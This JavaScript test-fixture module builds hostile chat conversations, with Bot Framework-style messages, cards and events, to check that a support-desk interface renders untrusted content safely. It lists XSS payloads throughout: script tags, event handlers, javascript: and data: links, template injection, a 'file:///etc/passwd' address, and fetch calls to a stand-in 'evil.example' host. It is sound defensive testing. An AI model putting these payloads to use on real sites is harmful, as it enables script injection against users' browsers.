/**
 * Whatever a visitor may write, a bot may relay, or an account may be called, to
 * make a consultant's browser run something, load something or lead somewhere.
 */
import { talk } from './desk-conversations.mjs';

/** A host that must not be spoken to. */
export const EVIL = 'https://evil.example';

// If any of it runs, it says so in the page's title and asks at EVIL.
const RUN = `document.title='HACKED';alert('HACKED');fetch('${EVIL}/ran')`;

/** Text that is markup, script, Markdown or a template to some reader. */
export const TEXTS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><svg onload="${RUN}"></svg>`,
  `</bdi></span></a></li><iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="${EVIL}/frame"></iframe><link rel=stylesheet href="${EVIL}/style.css"><style>@import '${EVIL}/import.css'</style>`,
  `<a href="javascript:${RUN}">press me</a>`,
  `[press me](javascript:${RUN})`,
  `![a picture](${EVIL}/pixel.png)`,
  `[press **me**](data:text/html,<script>${RUN}</script>)`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><base href="${EVIL}/">`,
  `<form action="${EVIL}/form"><button autofocus onfocus="${RUN}">ok</button></form>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `{{constructor.constructor("${RUN}")()}} \${${RUN}} <%= ${RUN} %>`,
  '{{DATE(2026-99-99T00:00:00Z,SHORT)}} {{TIME(<script>)}}',
  '&lt;script&gt;&#x61;lert(1)&lt;/script&gt;',
  '\u202Egnp.exe\u202C \u2066\u2069 \u0000\u0007\u001B[31m \uFEFF\uFFFE',
  '\uD800 a lone surrogate, \uDC00 and another'
];

/** Marks that are read, around what must not be. */
export const MARKED = `- [press me](${EVIL}/"onmouseover="${RUN})\n- **<b onclick="${RUN}">**\n\n1. \`<img src=x onerror="${RUN}">\``;

/** Addresses that must not become links. */
export const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `vbscript:${RUN}`,
  `view-source:${EVIL}/`,
  `blob:${EVIL}/0f0f`,
  'file:///etc/passwd',
  'ms-settings:about',
  '//evil.example/relative',
  '\\\\evil.example\\share',
  '/api/desk/assistants',
  '#/demo/!audit',
  'https://www.bank.example@evil.example/',
  'https://',
  ''
];

/** Addresses that are links and nothing else: pictures and styles among them are not loaded. */
export const LINKS = [`${EVIL}/pixel.png`, `${EVIL}/page?<script>`, 'http://127.0.0.1:1/status'];

// What is not of the type that it should be.
const AWKWARD = [null, 0, true, [], {}, [[[]]], { toString: 'x' }, { length: 9 }, ['<b>', null]];

const actions = (address, text) => [
  { type: 'openUrl', title: text, value: address },
  { type: 'signin', title: text, value: address },
  { type: 'imBack', title: text, value: address, image: address },
  { type: 'downloadFile', title: text, value: address }
];

const classic = (name, address, text) => ({
  contentType: `application/vnd.microsoft.card.${name}`,
  content: {
    title: text,
    subtitle: text,
    text,
    image: { url: address, alt: text, tap: actions(address, text)[0] },
    images: [{ url: address, alt: text, tap: actions(address, text)[0] }],
    media: [{ url: address, profile: text }],
    items: [{ title: text, subtitle: text, text, price: text, quantity: text, image: { url: address } }],
    facts: [{ key: text, value: text }],
    buttons: actions(address, text),
    tap: actions(address, text)[0],
    connectionName: text,
    total: text
  }
});

const adaptive = (address, text) => {
  const open = { type: 'Action.OpenUrl', title: text, url: address, iconUrl: address };
  return {
    contentType: 'application/vnd.microsoft.card.adaptive',
    content: {
      type: 'AdaptiveCard',
      backgroundImage: address,
      fallbackText: text,
      selectAction: open,
      body: [
        { type: 'TextBlock', text, wrap: true },
        { type: 'RichTextBlock', inlines: [text, { type: 'TextRun', text, selectAction: open }] },
        { type: 'CodeBlock', codeSnippet: text, language: text },
        { type: 'Image', url: address, altText: text, selectAction: open },
        { type: 'ImageSet', images: [{ type: 'Image', url: address }] },
        { type: 'Media', poster: address, altText: text, sources: [{ url: address, mimeType: text }] },
        { type: 'FactSet', facts: [{ title: text, value: text }] },
        { type: 'Container', isVisible: false, style: 'emphasis', backgroundImage: { url: address }, items: [{ type: 'TextBlock', text }] },
        { type: 'Table', rows: [{ cells: [{ items: [{ type: 'TextBlock', text }] }] }] },
        { type: 'Input.Text', id: text, label: text, placeholder: text, value: text, inlineAction: open },
        { type: 'Input.ChoiceSet', id: text, label: text, choices: [{ title: text, value: text }] },
        { type: text, text, items: [{ type: 'TextBlock', text }] },
        { type: '__proto__', text },
        { type: 'ActionSet', actions: [open] }
      ],
      actions: [open, { type: 'Action.ShowCard', title: text, card: { type: 'AdaptiveCard', body: [{ type: 'TextBlock', text }], actions: [open] } }]
    }
  };
};

const file = (address, text) => ({ contentType: text, name: text, contentUrl: address, thumbnailUrl: address });

/** A message with the text and the address in each place that has one. */
function messages(address, text) {
  const attachments = [file(address, text), { contentType: 'image/svg+xml', contentUrl: address }, { contentType: 'text/html', content: text }, adaptive(address, text)];
  const cards = ['hero', 'thumbnail', 'receipt', 'signin', 'oauth', 'animation', 'audio', 'video'].map((name) => classic(name, address, text));
  return [
    ['visitor', { text, textFormat: 'xml', from: { id: text, name: text, role: 'user' } }],
    ['bot', { text, textFormat: 'markdown', speak: `<speak>${text}</speak>`, attachments, suggestedActions: { actions: actions(address, text) } }],
    ['bot', { attachmentLayout: 'carousel', attachments: cards, value: { [text]: text } }]
  ];
}

const events = (text) => [
  ['bot', { type: 'conversationUpdate', membersAdded: [{ id: text, name: text }], topicName: text }],
  ['bot', { type: 'event', name: text, value: { [text]: { deep: text } } }],
  ['bot', { type: 'endOfConversation', code: text, text }],
  ['bot', { type: text, text, name: text }]
];

const AWKWARD_LINES = AWKWARD.flatMap((value) => [
  ['visitor', { text: value, attachments: value, suggestedActions: value, value }],
  ['bot', { attachments: [value, { contentType: value, content: value, contentUrl: value }, { contentType: 'application/vnd.microsoft.card.adaptive', content: { body: value, actions: [value] } }] }],
  ['bot', { type: 'conversationUpdate', membersAdded: value, membersRemoved: [value], timestamp: value }]
]);

/** A conversation of members that are of the wrong types. */
export const awkward = (about) => talk(about, ...AWKWARD_LINES);

/** A conversation with all of this in all places. */
export function hostile({ id, at, visitor }) {
  const lines = [
    ...TEXTS.flatMap((text, n) => messages(ADDRESSES[n % ADDRESSES.length], text)),
    ...ADDRESSES.flatMap((address) => messages(address, 'press me').slice(1)),
    ...LINKS.flatMap((address) => messages(address, 'a link').slice(1)),
    ['bot', MARKED],
    ...TEXTS.flatMap(events),
    ['visitor', TEXTS[1]]
  ];
  return talk({ id, at, visitor, channelId: TEXTS[2] }, ...lines);
}
